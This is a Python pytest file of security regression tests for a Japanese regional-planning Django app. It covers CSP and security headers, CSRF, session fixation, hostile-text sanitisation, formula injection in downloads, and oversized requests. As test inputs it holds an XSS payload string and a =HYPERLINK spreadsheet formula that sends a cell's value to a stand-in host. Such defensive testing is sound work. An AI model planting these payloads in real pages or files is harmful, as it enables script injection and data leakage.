"""Security behaviour a user depends on: headers, CSRF and sessions, hostile text, formula
injection in downloads, and oversized requests. (Deployment settings and static files are
checked against a live server in tests/reliability/test_deployment.py.)"""

from __future__ import annotations

import io
import json
import re

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from chiiki.accounts.tokens import issue
from chiiki.indicators.models import Actual, Indicator
from chiiki.plans.models import Bureau, Organization, ProgramBudget
from chiiki.proposals.services import save_proposal
from tests.conftest import PASSWORD

TOKACHI = "tokachi-kankyo-senshin-main-kpi"  # led by 十勝
HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)>'


@pytest.mark.parametrize(
    "path", ["/", "/plans/creation-strategy-1/", "/api/v1/regions", "/no-such-page/"]
)
def test_every_response_carries_the_security_headers(db, client, path):
    response = client.get(path)
    csp = response["Content-Security-Policy"]
    for directive in (
        "default-src 'self'",
        "script-src 'self'",
        "object-src 'none'",
        "frame-ancestors 'none'",
        "base-uri 'none'",
        "form-action 'self'",
    ):
        assert directive in csp
    assert "unsafe-inline" not in csp.replace("style-src-attr 'unsafe-inline'", "")
    assert response["X-Frame-Options"] == "DENY"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "same-origin"
    assert response["Cross-Origin-Opener-Policy"] == "same-origin"


INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)[^>]*>", re.I)
EVENT_HANDLER = re.compile(r"<[^>]+\son[a-z]+\s*=", re.I)


def test_no_page_needs_inline_script(client, personas):
    """The policy allows no inline script: every page must do without one."""
    client.login(username="hq-planner", password=PASSWORD)
    tokachi = Indicator.objects.get(slug=TOKACHI)
    for path in (
        "/",
        "/dashboard/",
        "/plans/creation-strategy-1/",
        f"/indicators/{tokachi.pk}/",
        "/proposals/",
        "/imports/",
        "/reports/",
        "/account/tokens/",
        "/api/v1/docs",
    ):
        html = client.get(path).content.decode()
        assert not INLINE_SCRIPT.search(html), path
        assert not EVENT_HANDLER.search(html), path


def test_forms_refuse_a_post_without_the_csrf_token(personas):
    browser = Client(enforce_csrf_checks=True)
    page = browser.get(reverse("login"))
    assert (
        browser.post(reverse("login"), {"username": "hq-planner", "password": PASSWORD}).status_code
        == 403
    )
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.content.decode())[1]
    assert (
        browser.post(
            reverse("login"),
            {"username": "hq-planner", "password": PASSWORD, "csrfmiddlewaretoken": token},
        ).status_code
        == 302
    )
    tokachi = Indicator.objects.get(slug=TOKACHI)
    url = reverse("record_indicator_actual", args=[tokachi.pk])
    forged = browser.post(url, {"fy": "R3", "value": "5"})
    assert forged.status_code == 403
    assert not Actual.objects.filter(indicator=tokachi, fy=2021).exists()
    form = browser.get(reverse("indicator", args=[tokachi.pk])).content.decode()
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', form)[1]
    assert (
        browser.post(url, {"fy": "R3", "value": "5", "csrfmiddlewaretoken": token}).status_code
        == 302
    )
    assert Actual.objects.get(indicator=tokachi, fy=2021).value == 5


def test_login_starts_a_new_session_and_logout_ends_it(client, personas):
    client.get("/")
    client.cookies["sessionid"] = "attacker-chosen-session-key"
    client.post(reverse("login"), {"username": "hq-planner", "password": PASSWORD})
    cookie = client.cookies["sessionid"]
    assert cookie.value != "attacker-chosen-session-key"
    assert cookie["httponly"] and cookie["samesite"] == "Lax"
    assert cookie["max-age"] == ""  # ends with the browser
    assert client.get("/dashboard/").status_code == 200
    stolen = cookie.value
    client.post(reverse("logout"))
    replay = Client()
    replay.cookies["sessionid"] = stolen
    assert replay.get("/dashboard/").status_code == 302  # the old session no longer logs in


def test_the_api_ignores_a_logged_in_session(client, personas):
    """Cookies never authorise an API write, so the API needs no CSRF token."""
    client.login(username="hq-planner", password=PASSWORD)
    tokachi = Indicator.objects.get(slug=TOKACHI)
    response = client.put(
        f"/api/v1/indicators/{tokachi.pk}/actuals/2021",
        data=json.dumps({"value": "5"}),
        content_type="application/json",
        HTTP_IF_NONE_MATCH="*",
    )
    assert response.status_code == 401
    assert not Actual.objects.filter(indicator=tokachi, fy=2021).exists()


def test_hostile_text_is_reduced_to_plain_text_and_never_rendered_raw(client, personas):
    org = Organization.objects.get(slug="hokkaido")
    proposal = save_proposal(
        actor=personas["hq_planner"],
        organization=org,
        fy="R6",
        title="道東の<b>観光</b>" + HOSTILE + "連携",
        summary="概要" + HOSTILE,
        bureau_ids=[Bureau.objects.get(short_name="十勝").pk],
    )
    proposal.refresh_from_db()
    assert proposal.title == "道東の観光連携"  # tags removed, a script's content with it
    client.login(username="hq-planner", password=PASSWORD)
    html = client.get(reverse("proposal", args=[proposal.pk])).content.decode()
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "onerror=alert" not in html.replace("&lt;img src=x onerror=alert(1)&gt;", "")


def test_downloads_never_turn_names_into_formulas(client, personas):
    program = ProgramBudget.objects.order_by("pk").first().program
    program.name = '=HYPERLINK("http://example.invalid/?"&A1,"詳細")'
    program.save()
    client.login(username="hq-planner", password=PASSWORD)
    book = openpyxl.load_workbook(io.BytesIO(client.get(reverse("workbook")).content))
    cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value == program.name]
    assert cells, "the program is in the workbook"
    assert all(c.data_type == "s" for c in cells)  # a text cell, not a formula
    csv = b"".join(client.get("/opendata/budgets.csv").streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK(" in csv and ",=HYPERLINK(" not in csv


def test_an_oversized_api_body_is_refused_with_413(client, personas):
    key = issue(actor=personas["hq_planner"], name="big")[1]
    entries = [{"indicator": 1, "value": "1" * 90, "version": 0}] * 40_000  # about 4 MB
    response = client.post(
        "/api/v1/actuals/bulk",
        data=json.dumps({"fy": 2021, "entries": entries}),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {key}",
    )
    assert response.status_code == 413
    assert response.json()["code"] == "too_large"
    assert "上限 3 MB" in response.json()["message"]


def test_an_oversized_upload_is_refused_from_its_declared_length(client, personas):
    client.login(username="hq-planner", password=PASSWORD)
    response = client.post(
        reverse("imports"),
        data=b"",
        content_type="multipart/form-data; boundary=x",
        CONTENT_LENGTH=str(500 * 1024 * 1024),
        follow=True,
    )
    assert "ファイルが大きすぎます（上限 20MB）" in response.content.decode()
